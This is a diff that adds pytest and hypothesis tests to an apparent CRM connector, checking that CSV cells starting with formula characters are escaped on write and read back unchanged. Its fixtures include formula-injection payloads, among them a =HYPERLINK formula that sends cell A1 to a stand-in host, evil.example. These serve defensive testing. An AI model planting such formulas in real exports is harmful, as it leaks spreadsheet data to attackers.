@@ -7,12 +7,17 @@ limit and fails the exit-code assertion. No wall-clock time is asserted."""
 
 from __future__ import annotations
 
+import csv
 import resource
 import subprocess
 import sys
+import tempfile
+from datetime import datetime, timezone
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -161,3 +166,109 @@ def test_files_inside_the_folder_and_the_explicit_option_still_work(tmp_path: Pa
     result = cli("sync", inside, "--now", MONDAY)
     assert result.returncode == 0, result.stderr
     assert (inside.parent / "out" / "tasks.csv").exists()
+
+
+# ------------------------------------------------------------------ spreadsheet formulas
+
+EVIL_FIRST = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+EVIL_LAST = "@SUM(1+1)"
+PHONE = "+1 212 555 0100"
+
+
+def raw_cells(path: Path) -> list[list[str]]:
+    """The cells of a CSV file as a spreadsheet gets them (no unescaping)."""
+    with open(path, newline="", encoding="utf-8-sig") as f:
+        return list(csv.reader(f))
+
+
+def assert_no_formula(path: Path) -> None:
+    from connector.crm.local.csvio import FORMULA_STARTS
+
+    bad = [cell for row in raw_cells(path) for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert not bad, f"{path.name}: cells a spreadsheet evaluates: {bad}"
+
+
+def test_formula_cells_are_escaped_in_tasks_csv_and_read_back_as_written(tmp_path: Path) -> None:
+    """A contact named `=HYPERLINK(...)` was written verbatim into tasks.csv; now every cell that
+    would begin a formula starts with a quote, and the local CRM reads the value back unquoted."""
+    from connector.crm.local import csvio
+
+    folder = tmp_path / "cfg"
+    folder.mkdir()
+    header = "id,first_name,last_name,phone,timezone,country,lifecycle_stage\n"
+    (folder / "contacts.csv").write_text(
+        header + f'c1,"{EVIL_FIRST.replace(chr(34), chr(34) * 2)}",{EVIL_LAST},{PHONE},America/New_York,US,lead\n',
+        encoding="utf-8")
+    config = folder / "cadence.yaml"
+    config.write_text("crm: {type: local}\n" + CADENCE.replace("{id: call, channel: call, subject: 'Call {{contact.first_name}}'}",
+                      "{id: call, channel: call, subject: '{{contact.first_name}}'}\n"
+                      "      - {id: again, channel: call, wait: 1 day, subject: 'Again'}"), encoding="utf-8")
+    assert cli("sync", config, "--now", MONDAY).returncode == 0
+    tasks = folder / "tasks.csv"
+    assert_no_formula(tasks)
+    [row] = [dict(zip(raw_cells(tasks)[0], r, strict=True)) for r in raw_cells(tasks)[1:]]
+    assert row["contact_name"] == f"'{EVIL_FIRST} {EVIL_LAST}"
+    assert row["subject"] == f"'{EVIL_FIRST}"
+    assert row["phone"] == f"'{PHONE}"  # a phone number beginning with + is shown as text too (the safe reading)
+
+    # the recruiter marks it done with a note that begins with '-', as a spreadsheet saves it
+    cells = raw_cells(tasks)
+    position = {name: i for i, name in enumerate(cells[0])}
+    cells[1][position["status"]] = "done"
+    cells[1][position["note"]] = "-5 min call, no answer"
+    with open(tasks, "w", newline="", encoding="utf-8-sig") as f:
+        csv.writer(f, lineterminator="\n").writerows(cells)
+    for now in ("2026-03-03T14:00:00Z", "2026-03-03T14:05:00Z"):  # the next step, then an idle run
+        result = cli("sync", config, "--now", now)
+        assert result.returncode == 0, result.stderr
+    assert_no_formula(tasks)
+    _header, records, errors = csvio.read_table(tasks)
+    rows = [csvio.as_dict(_header, r.values) for r in records]
+    assert not errors and len(rows) == 2
+    assert {r["contact_name"] for r in rows} == {f"{EVIL_FIRST} {EVIL_LAST}"}  # read back as written, once escaped
+    assert {r["phone"] for r in rows} == {PHONE}
+    assert [r["note"] for r in rows if r["status"] == "done"] == ["-5 min call, no answer"]
+    raw = {r[position["status"]]: r for r in raw_cells(tasks)[1:]}
+    assert raw["done"][position["note"]] == "'-5 min call, no answer"
+    assert raw["open"][position["contact_name"]] == f"'{EVIL_FIRST} {EVIL_LAST}"  # never quoted twice
+
+
+def test_a_referred_formula_is_escaped_in_contacts_csv(tmp_path: Path) -> None:
+    from crm_conformance import make_task
+    from test_crm_local_conformance import LocalRecruiter, seed_local
+
+    from connector.crm.base import ReadContext
+    from connector.crm.local import LocalCRM
+
+    crm = LocalCRM({}, base_dir=seed_local(tmp_path))
+    task = make_task("c1")
+    crm.create_tasks([task])
+    LocalRecruiter(tmp_path).complete_task(task.key, outcome="referral", referred_first_name="=EVIL()",
+                                           referred_last_name="-Smith", referred_phone="+44 20 7946 0001")
+    context = ReadContext(since=None, started_at=datetime(2026, 3, 3, 14, tzinfo=timezone.utc))
+    list(crm.read_contacts(context))  # appends the referred person to contacts.csv
+    added = raw_cells(tmp_path / "contacts.csv")[-1]  # the rows already there keep their bytes
+    assert added[1:3] == ["'=EVIL()", "'-Smith"] and "'+44 20 7946 0001" in added, added
+    contacts = [c for b in crm.read_contacts(context) for c in b.contacts]
+    referred = next(c for c in contacts if c.referred_by == "c1")
+    assert (referred.first_name, referred.last_name) == ("=EVIL()", "-Smith")
+
+
+CELL = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\x00"), max_size=12)
+
+
+@given(st.lists(st.tuples(CELL, CELL), min_size=1, max_size=5))
+@settings(max_examples=200)
+def test_any_cell_round_trips_and_none_begins_a_formula(rows: list[tuple[str, str]]) -> None:
+    """Whatever a cell holds (quotes before a formula character included), what the local CRM
+    writes reads back the same, and no written cell begins a formula."""
+    from connector.crm.local import csvio, csvtable
+
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "t.csv"
+        csvio.atomic_write_rows(path, ["key", "value"], [{"key": f"k{i}{a}", "value": b} for i, (a, b) in enumerate(rows)],
+                                bom=True)
+        assert_no_formula(path)
+        table = csvtable.read_table_whole(path, "t.csv", "key")
+        assert [r.values for r in table.records] == [[f"k{i}{a}", b] for i, (a, b) in enumerate(rows)]
+        assert csvio.from_spreadsheet(str(csvio.spreadsheet_safe("''=x"))) == "''=x"
